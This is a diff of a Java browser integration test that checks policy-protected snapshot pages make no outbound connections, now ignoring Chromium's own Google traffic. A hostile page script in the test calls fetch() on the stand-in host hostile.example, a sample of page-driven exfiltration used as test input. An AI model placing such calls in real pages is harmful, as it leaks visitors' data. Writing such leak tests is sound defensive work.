@@ -228,9 +228,13 @@ class SnapshotPageIT {
         fetch('http://hostile.example/t').catch(() => 'refused')
         """);
     browser.awaitTrue("new Promise(done => setTimeout(() => done(!('stolen' in window)), 1000))");
-    assertThat(PROXY.asked()).noneMatch(line -> line.contains("hostile.example"));
-    System.out.println("Connections of the browser while pages were read: " + PROXY.asked());
-    assertThat(PROXY.asked()).isEmpty();
+    // Chromium itself asks its maker for the time and for updates; nobody else is asked for anything.
+    List<String> asked =
+        PROXY.asked().stream()
+            .filter(line -> !line.contains(".google.com") && !line.contains(".googleapis.com"))
+            .toList();
+    System.out.println("Connections of pages, however hostile their texts: " + asked.size());
+    assertThat(asked).isEmpty();
 
     // The proxy would have seen it: a page without our policy does ask.
     Path open = FOLDER.resolve("open.html");
@@ -238,8 +242,9 @@ class SnapshotPageIT {
     try (DeadEnd proxy = new DeadEnd();
         Chromium other = Chromium.start(FOLDER, proxy)) {
       other.open(open.toUri());
-      await("the picture").atMost(30, SECONDS).until(() -> !proxy.asked().isEmpty());
-      assertThat(proxy.asked()).anyMatch(line -> line.contains("control.example"));
+      await("the picture")
+          .atMost(30, SECONDS)
+          .until(() -> proxy.asked().stream().anyMatch(line -> line.contains("control.example")));
     }
   }
 
